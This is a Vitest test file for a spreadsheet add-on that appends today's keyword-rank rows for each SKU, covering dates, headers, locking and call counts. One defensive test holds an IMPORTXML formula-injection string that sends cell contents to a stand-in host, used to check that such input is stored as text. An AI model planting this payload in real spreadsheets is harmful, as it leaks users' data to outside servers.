// R22: "Add today's rank rows" — each SKU's latest keyword list appended with today's date, in
// one write, earlier rows untouched.

import { describe, expect, it } from 'vitest';
import { addTodaysRankRows } from '../../../src/addon/keyword-ranks/add-todays-rank-rows';
import { insertRankSheet } from '../../../src/addon/keyword-ranks/insert-rank-sheet';
import { createFakeWorld } from '../../fakes/fake-services';

const NOW = new Date('2026-11-26T09:00:00Z');
const HEADERS = ['Date', 'SKU', 'Keyword', 'Kind', 'Our rank', 'Competitor above', 'Above rank'];

function logSheet(rows: unknown[][], options: { timeZone?: string } = {}) {
  const world = createFakeWorld({ sheets: ['Ranks'], ...options });
  const sheet = world.spreadsheet.sheet('Ranks');
  sheet.seed([HEADERS, ...rows]);
  return { world, sheet };
}

/** Everything the sheet holds, values and formulas, for comparing before and after. */
function snapshot(sheet: ReturnType<typeof logSheet>['sheet'], rows: number) {
  return sheet
    .valuesUncounted()
    .slice(0, rows)
    .map((line, r) =>
      line.map((value, c) => [value, sheet.cell(`${String.fromCharCode(65 + c)}${r + 1}`).formula]),
    );
}

describe('addTodaysRankRows', () => {
  it('copies each SKU’s latest keyword list with today’s date, ranks blank', () => {
    const { world, sheet } = logSheet([
      ['2026-11-20', 'MAT-01', 'yoga mat', 'core', 9, 'B0AAA', 8],
      ['2026-11-20', 'MAT-01', 'old keyword', 'core', 50],
      ['2026-11-24', 'MAT-01', 'yoga mat', 'core', 12, 'B0BBB', 11],
      ['2026-11-24', 'MAT-01', 'cork yoga mat', 'long-tail', 40],
      ['2026-11-25', 'BLOCK-02', 'yoga block', '核心', 3],
    ]);
    const before = snapshot(sheet, 6);
    world.calls.reset();
    const added = addTodaysRankRows(world.services, NOW);
    expect(added?.rows).toEqual([7, 8, 9]);
    expect(sheet.valuesUncounted().slice(6)).toEqual([
      ['2026-11-26', 'MAT-01', 'yoga mat', 'core', '', 'B0BBB', ''],
      ['2026-11-26', 'MAT-01', 'cork yoga mat', 'long-tail', '', '', ''],
      ['2026-11-26', 'BLOCK-02', 'yoga block', '核心', '', '', ''],
    ]);
    expect(snapshot(sheet, 6)).toEqual(before);
    expect(world.calls.count('Range.setValues')).toBe(1);
    expect(world.spreadsheet.toasts.at(-1)?.message).toBe(
      "Added 3 rows dated 2026-11-26 to 'Ranks' (2 SKUs, from their latest list): type today's ranks.",
    );
  });

  it('copies a keyword, SKU or competitor that reads like a formula as text, never as a formula', () => {
    const exfiltrate = '=IMPORTXML("https://x.example/?q="&A1,"//a")';
    const { world, sheet } = logSheet([
      ['2026-11-25', '+MAT-01', 'placeholder', '@core', 9, '-B0AAA', 8],
    ]);
    // The keyword cell holds that text (typed with a leading apostrophe), not a formula.
    sheet.cellFor(2, 3).value = exfiltrate;
    addTodaysRankRows(world.services, NOW);
    // What the sheet shows is what the seller typed; no cell of the new row holds a formula.
    expect(sheet.valuesUncounted()[2]).toEqual([
      '2026-11-26',
      '+MAT-01',
      exfiltrate,
      '@core',
      '',
      '-B0AAA',
      '',
    ]);
    expect(sheet.formulaCells()).toEqual([]);
    const written = world.calls.calls.find((call) => call.method === 'setValues')?.args[0];
    expect(written).toEqual([
      ['2026-11-26', "'+MAT-01", `'${exfiltrate}`, "'@core", '', "'-B0AAA", ''],
    ]);
  });

  it('adds nothing the second time the same day', () => {
    const { world, sheet } = logSheet([['2026-11-25', 'MAT-01', 'yoga mat', 'core', 9]]);
    addTodaysRankRows(world.services, NOW);
    const again = addTodaysRankRows(world.services, NOW);
    expect(again?.rows).toEqual([]);
    expect(sheet.valuesUncounted()).toHaveLength(3);
    expect(again?.message).toBe(
      "Today's rows (2026-11-26) are already in 'Ranks': nothing was added.",
    );
  });

  it('dates the rows in the spreadsheet’s time zone', () => {
    const { world, sheet } = logSheet([['2026-11-25', 'MAT-01', 'yoga mat', 'core', 9]], {
      timeZone: 'Asia/Shanghai',
    });
    addTodaysRankRows(world.services, new Date('2026-11-26T20:00:00Z')); // 04:00 on the 27th there
    expect(sheet.cell('A3').value).toBe('2026-11-27');
  });

  it('finds the columns by header, under a title and in another order, and skips bad rows', () => {
    const world = createFakeWorld({ sheets: ['Notes', 'My log'] });
    const sheet = world.spreadsheet.sheet('My log');
    sheet.seed([
      ['Daily keyword log'],
      ['Keyword', 'Rank', 'SKU', 'Day', 'Remarks'],
      ['yoga mat', 9, 'MAT-01', '24.11.2026', 'screenshot'],
      ['yoga mat', '', 'MAT-01', 'yesterday', ''], // a date that is not one: reported, not copied
      ['', '', 'MAT-01', '2026-11-25', 'half-filled: ignored'],
    ]);
    const added = addTodaysRankRows(world.services, NOW);
    expect(added?.sheet).toBe('My log');
    expect(sheet.valuesUncounted()[5]).toEqual(['yoga mat', '', 'MAT-01', '2026-11-26', '']);
  });

  it('grows a full sheet instead of writing past its end', () => {
    const world = createFakeWorld({ sheets: ['Ranks'] });
    const sheet = world.spreadsheet.addSheet('Full', { rows: 3, columns: 7 });
    sheet.seed([
      HEADERS,
      ['2026-11-25', 'MAT-01', 'a', 'core', 1],
      ['2026-11-25', 'MAT-01', 'b', 'core', 2],
    ]);
    world.spreadsheet.makeActive(sheet);
    expect(addTodaysRankRows(world.services, NOW)?.rows).toEqual([4, 5]);
    expect(sheet.sizeUncounted().rows).toBe(5);
  });

  it('says what to do when there is nothing to copy or no sheet, and waits for another writer', () => {
    const empty = logSheet([]);
    expect(addTodaysRankRows(empty.world.services, NOW)?.message).toMatch(/has no keywords yet/);
    const none = createFakeWorld();
    expect(addTodaysRankRows(none.services, NOW)).toBeUndefined();
    expect(none.ui.ui.alerts.at(-1)).toMatch(/No keyword-rank sheet was found/);
    const busy = logSheet([['2026-11-25', 'MAT-01', 'yoga mat', 'core', 9]]);
    const other = busy.world.lock.holdDocumentLockElsewhere();
    expect(addTodaysRankRows(busy.world.services, NOW)).toBeUndefined();
    expect(busy.sheet.valuesUncounted()).toHaveLength(2);
    other.release();
    expect(addTodaysRankRows(busy.world.services, NOW)?.rows).toEqual([3]);
    expect(busy.world.lock.documentLockHeld()).toBe(false);
  });

  it('costs the same number of Apps Script calls for 10 rows and for 5,000', () => {
    const count = (n: number) => {
      const rows = Array.from({ length: n }, (_, i) => [
        `2026-11-${String(1 + (i % 25)).padStart(2, '0')}`,
        `SKU-${i % 40}`,
        `keyword ${i % 9}`,
        'core',
        i + 1,
      ]);
      // Room below the last row in both cases: growing a full sheet costs two calls more.
      const world = createFakeWorld({ sheets: ['Notes'] });
      const sheet = world.spreadsheet.addSheet('Ranks', { rows: 2 * n + 100, columns: 10 });
      sheet.seed([HEADERS, ...rows]);
      world.calls.reset();
      addTodaysRankRows(world.services, NOW);
      return world.calls.count();
    };
    expect(count(5_000)).toBe(count(10));
  });

  it('works on the inserted sheet, copying the example list', () => {
    const world = createFakeWorld();
    const { name } = insertRankSheet(world.services);
    const sheet = world.spreadsheet.sheet(name);
    // The fake does not compute =TODAY()-n: give the example dates as Sheets would show them.
    const days = [-40, -40, -40, -25, -25, -25, -15, -1, -1, -1];
    days.forEach((d, i) => {
      sheet.seed([[new Date(NOW.getTime() + d * 86_400_000)]], i + 2, 1);
    });
    const added = addTodaysRankRows(world.services, NOW);
    expect(added?.rows).toEqual([12, 13, 14]);
    expect(
      sheet
        .valuesUncounted()
        .slice(11)
        .map((r) => r.slice(0, 6)),
    ).toEqual([
      ['2026-11-26', 'EXAMPLE-RECOVERY', 'yoga mat', 'core', '', 'B0EXAMPLEC'],
      ['2026-11-26', 'EXAMPLE-RECOVERY', 'non slip yoga mat', 'core', '', 'B0EXAMPLEB'],
      ['2026-11-26', 'EXAMPLE-RECOVERY', 'thick yoga mat for floor', 'long-tail', '', ''],
    ]);
  });
});
